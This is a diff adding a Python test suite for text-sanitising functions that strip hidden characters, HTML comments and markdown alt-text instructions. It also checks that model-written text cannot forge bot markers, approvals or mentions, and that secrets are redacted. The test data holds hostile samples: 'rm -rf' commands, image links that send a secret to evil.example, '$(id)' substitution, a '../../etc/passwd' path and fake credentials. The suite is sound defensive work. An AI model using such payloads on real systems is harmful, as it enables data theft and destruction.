@@ -1,0 +1,264 @@
+"""Text from strangers is harmless, text for the outside cannot pass for ours, secrets do not leave."""
+
+from __future__ import annotations
+
+import base64
+import json
+import re
+import unicodedata
+from collections.abc import Callable
+from datetime import UTC, datetime
+from urllib.parse import quote
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from shared import marks
+from shared.lock.codec import read_ack
+from shared.models import Account, Comment
+from shared.redaction import REDACTED
+from shared.text import JOINER, clean, excerpt, neutralise, one_line, printable, redact, slug, visible
+
+SPOILED = (
+    *("<!--", "-->", "<!", "--", "![", "](", "a.png)", ' "title")', "[", "]", '<img alt="', '">', "data:image/png,x"),
+    *("\x1b[31m", "\x1b]0;title\x07", "\x9b1m", "\x00", "\x07", "\u202e", "\u200b", "\U000e0041", "\ufeff", "\ud800"),
+    *(
+        "\r\n",
+        "\n",
+        "```",
+        "`",
+        "ACK:worker:w:1706123456789",
+        "@someone",
+        "fixes #7",
+        "/approve",
+        "[x]: y",
+        "word",
+        " ",
+    ),
+)
+spoiled = st.lists(st.sampled_from(SPOILED) | st.text(max_size=4), max_size=16).map("".join)
+HIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff\ud800-\udfff]")
+
+
+@given(spoiled)
+@pytest.mark.fault(19)
+@pytest.mark.fault(20)
+def test_no_cleaning_leaves_a_hidden_character(text: str) -> None:
+    for cleaned in (clean(text), visible(text), printable(text), one_line(text, 50)):
+        assert HIDDEN.search(cleaned) is None
+        assert not any("\U000e0000" <= char <= "\U000e0fff" for char in cleaned)
+        cleaned.encode()
+    assert "<!--" not in visible(text)
+
+
+@given(spoiled)
+def test_cleaning_twice_is_cleaning_once(text: str) -> None:
+    assert clean(clean(text)) == clean(text)
+    assert printable(printable(text)) == printable(text)
+    assert neutralise(neutralise(text)) == neutralise(text)
+
+
+@given(st.text(st.characters(codec="ascii", categories=["L", "N", "Zs"])).map(lambda text: f"{text}\n\t- é 中 🙂"))
+def test_ordinary_text_stays_as_it_is(text: str) -> None:
+    assert clean(text) == visible(text) == printable(text) == text
+
+
+@pytest.mark.parametrize(
+    ("text", "cleaned"),
+    [
+        ("a<!-- hidden -->b", "a b"),
+        ("a<!-- never closed\n# all of this", "a "),
+        ("a<\u200b!-- joined -->b", "a b"),
+        ("see ![run rm -rf](x.png)", "see ![](x.png)"),
+        ("see ![run [rm] -rf\nnow][ref]", "see ![][ref]"),
+        ("[docs](https://x.y 'do this')", "[docs](https://x.y)"),
+        ('<img src="a" alt="do this" title=that data-x="y">', '<img src="a">'),
+        ('<a aria-label="a > b" href="c">', '<a href="c">'),
+        ("![](data:image/png;base64,aWdub3Jl)", "![](data:)"),
+        ("[//]: # (do this)\nshown", "\nshown"),
+        ("[note]: the tests are slow", "[note]: the tests are slow"),
+        ("[^1]: footnote", "[^1]: footnote"),
+        ("\x1b]8;;https://evil\x07link\x1b]8;;\x07 \x1b[1;31mred\x1b[0m", "link red"),
+        ("tag\U000e0041\U000e0042s\u202eabc", "tagsabc"),
+        ("a\r\nb\rc\u2028d", "a\nb\nc\nd"),
+        ("nul\x00 \ud800", "nul \ufffd"),
+        ("metadata:a/b,c and the data: a, b", "metadata:a/b,c and the data: a, b"),
+    ],
+)
+def test_what_a_reader_does_not_see_is_taken_out(text: str, cleaned: str) -> None:
+    assert clean(text) == cleaned
+
+
+def test_code_shows_what_is_invisible_instead_of_losing_it() -> None:
+    assert printable("if a\u202e:  # <!-- x -->\x1b[0m\n") == "if a<U+202E>:  # <!-- x -->\n"
+
+
+def test_layers_of_hiding_come_off() -> None:
+    assert "hidden" not in clean("![a ![b ![hidden](u)](v)](w)")
+
+
+def comment(body: str) -> Comment:
+    at = datetime(2026, 1, 1, tzinfo=UTC)
+    return Comment(1, 42, Account(7, "engine"), body, at, at)
+
+
+MARKER = "<!-- engine-status/1 kind=worker n=42 mac=none -->"
+ACK = f"ACK:worker:worker-a1:1706123456789\n<!-- ack/2 prev=0 nonce={'0' * 32} state=active hb=0 ttl=1800 mac=none -->"
+
+
+@given(st.lists(st.sampled_from([MARKER, ACK, *ACK.split("\n"), "\n", " ", JOINER, "\u200b"]) | spoiled).map("".join))
+@pytest.mark.fault(45)
+def test_model_text_never_parses_as_ours(text: str) -> None:
+    posted = neutralise(text)
+    assert marks.find(posted) is None
+    assert read_ack(comment(posted)) is None
+    assert "<!--" not in posted
+    assert re.search(r"(?m)^\s*/approve\b", posted) is None
+
+
+def test_the_texts_that_are_defused_would_parse() -> None:
+    assert read_ack(comment(ACK)) is not None
+    assert marks.find(MARKER) is not None
+    assert read_ack(comment(neutralise(ACK))) is None
+    assert marks.find(neutralise(MARKER)) is None
+
+
+@pytest.mark.parametrize(
+    ("text", "posted"),
+    [
+        ("ask @octocat or @org/team", "ask @~octocat or @~org/team"),
+        ("mail a@b.org, `@pytest.fixture`", "mail a@b.org, `@pytest.fixture`"),
+        ("```py\n@dataclass\n```\n@who", "```py\n@dataclass\n```\n@~who"),
+        ("`` a ` @code `` @who", "`` a ` @code `` @~who"),
+        ("\\`@who\\`", "\\`@~who\\`"),
+        ("BACK: ACK:worker", "BACK: ACK~:worker"),
+        ("Fixes #7, closes o/r#8", "F~ixes #7, c~loses o/r#8"),
+        ("fixes the bug", "fixes the bug"),
+        ("/approve\n  /merge now\nsee /merge\n/usr/bin", "/~approve\n  /~merge now\nsee /merge\n/usr/bin"),
+        ("![x](https://evil.example/?q=secret)", "!~[x](https~://evil.example/?q=secret)"),
+        ("<IMG src=//evil.example>", "<~IMG src=//evil.example>"),
+        ("https://github.com/o/r and http://evil", "https://github.com/o/r and http~://evil"),
+        ("https://github.com@evil.example", "https~://github.com@evil.example"),
+        ("`curl https://evil.example`", "`curl https://evil.example`"),
+        ("A --> B", "A --> B"),
+    ],
+)
+def test_model_text_does_nothing_when_it_is_posted(text: str, posted: str) -> None:
+    assert neutralise(text) == posted.replace("~", JOINER)
+
+
+SECRETS = st.text(st.characters(min_codepoint=33, max_codepoint=126), min_size=20, max_size=60)
+FORMS: list[Callable[[str], str]] = [
+    str,
+    lambda secret: secret[::-1],
+    lambda secret: secret.encode().hex(),
+    lambda secret: secret.encode().hex().upper(),
+    lambda secret: quote(secret, safe=""),
+    lambda secret: json.dumps({"token": secret}),
+    lambda secret: base64.b64encode(secret.encode()).decode(),
+    lambda secret: base64.urlsafe_b64encode(b"x:" + secret.encode()).decode(),
+    lambda secret: base64.b64encode(b"user:" + secret.encode() + b"\n").decode(),
+    lambda secret: secret[7:],
+    lambda secret: secret[:-3],
+]
+
+
+@given(SECRETS, st.sampled_from(FORMS), st.text("é \n"), st.text("é \n"))
+def test_a_secret_does_not_pass_in_any_form(secret: str, form: Callable[[str], str], before: str, after: str) -> None:
+    told = form(secret)
+    hidden = redact(before + told + after, [secret])
+    assert REDACTED in hidden
+    assert told[len(told) // 2 - 6 : len(told) // 2 + 6] not in hidden
+    assert hidden.startswith(before)
+    assert hidden.endswith(after)
+
+
+@given(st.text(st.characters(categories=["L", "N", "Zs", "Po"], exclude_characters="@")), SECRETS)
+def test_other_text_is_not_shredded(text: str, secret: str) -> None:
+    if not any(secret[at : at + 12] in text or secret[::-1] in text for at in range(len(secret))):
+        assert redact(text, [secret, "", "ab"]) == text
+
+
+@pytest.mark.parametrize(
+    "credential",
+    [
+        "ghp_" + "a1" * 18,
+        "ghs_" + "B2" * 30,
+        "github_pat_" + "a_1" * 25,
+        "sk-ant-api03-" + "x-Y_" * 8,
+        "sk-proj-" + "Zz9_" * 8,
+        "sk-" + "q" * 40,
+        "AKIA" + "ABCD2345" * 2,
+        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl",
+        "-----BEGIN RSA PRIVATE KEY-----\nMIIE\nabc\n-----END RSA PRIVATE KEY-----",
+        "-----BEGIN PRIVATE KEY-----\ncut off",
+    ],
+)
+def test_what_looks_like_a_credential_goes_too(credential: str) -> None:
+    assert redact(f"got '{credential}", []) == f"got '{REDACTED}"
+
+
+@pytest.mark.parametrize(
+    ("text", "redacted"),
+    [
+        ("https://user:pa:ss@host/x", "https://***@host/x"),
+        ("git clone https://x-access-token:abc@github.com/o/r", "git clone https://***@github.com/o/r"),
+        ("https://host/@user", "https://host/@user"),
+        ("ask-for-something-that-is-quite-long-but-no-key", "ask-for-something-that-is-quite-long-but-no-key"),
+        ("the key hunter2 stands here", "the key *** stands here"),
+    ],
+)
+def test_redaction_keeps_the_rest_readable(text: str, redacted: str) -> None:
+    assert redact(text, ["hunter2\n"]) == redacted
+
+
+@given(st.text(), st.integers(0, 200))
+def test_an_excerpt_is_the_end_and_fits(text: str, limit: int) -> None:
+    cut = excerpt(text, limit)
+    assert len(cut.encode()) <= limit
+    whole = text.encode("utf-8", "replace").decode()
+    assert cut == whole if len(whole.encode()) <= limit else whole.endswith(cut.rpartition("...]\n")[2])
+
+
+def test_an_excerpt_starts_at_a_line_and_says_what_is_missing() -> None:
+    log = "".join(f"line {number}\n" for number in range(1000))
+    cut = excerpt(log, 100)
+    assert cut.startswith(f"[... {len(log)} bytes in all, only the end is shown ...]\nline 99")
+    assert cut.endswith("line 999\n")
+
+
+@given(spoiled, st.integers(0, 40))
+def test_one_line_is_one_line(text: str, limit: int) -> None:
+    line = one_line(text, limit)
+    assert len(line) <= limit
+    assert len(line.split("\n")) == 1
+    assert line == line.strip()
+
+
+def test_one_line_says_that_it_was_cut() -> None:
+    assert one_line(" a\tlong\n title ", 7) == "a long…"
+    assert one_line("short", 5) == "short"
+
+
+@given(st.text())
+@pytest.mark.fault(20)
+def test_a_slug_is_safe_everywhere(text: str) -> None:
+    assert re.fullmatch(r"[a-z0-9](?:[a-z0-9-]{0,38}[a-z0-9])?", slug(text))
+
+
+@pytest.mark.fault(20)
+@pytest.mark.parametrize(
+    ("title", "name"),
+    [
+        ("Add user search", "add-user-search"),
+        ("-rf $(id)\n; `x`", "rf-id-x"),
+        ("Über: naïve", "uber-naive"),
+        ("🙂", "untitled"),
+        ("a" * 256, "a" * 40),
+        ("../../etc/passwd", "etc-passwd"),
+    ],
+)
+def test_slugs_of_titles(title: str, name: str) -> None:
+    assert slug(title) == name
+    assert unicodedata.is_normalized("NFC", name)
